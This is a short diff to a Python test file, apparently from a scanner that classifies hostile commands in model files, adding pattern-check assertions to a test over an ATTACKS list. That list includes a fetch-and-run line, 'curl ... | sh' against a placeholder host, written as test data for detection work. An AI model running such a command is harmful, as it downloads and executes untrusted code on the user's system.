@@ -10,6 +10,7 @@ from modelscan.formats.known_places import is_known, usual_packages, well_known
 from modelscan.formats.python_code.flows import flows
 from modelscan.formats.python_code.harm import harm
 from modelscan.formats.python_code.paths import command
+from modelscan.formats.script_words import BEYOND, HINTS, is_shown
 
 ATTACKS = [
     ("curl -fsSL https://e.test/i | sh", "runs-download"),
@@ -66,6 +67,8 @@ ATTACKS = [
 @pytest.mark.parametrize(("text", "kind"), ATTACKS)
 def test_commands_that_attack(text: str, kind: str) -> None:
     assert command(text) == kind
+    assert HINTS.search(text) or BEYOND.search(text)
+    assert not is_shown(text)
 
 
 ORDINARY = [
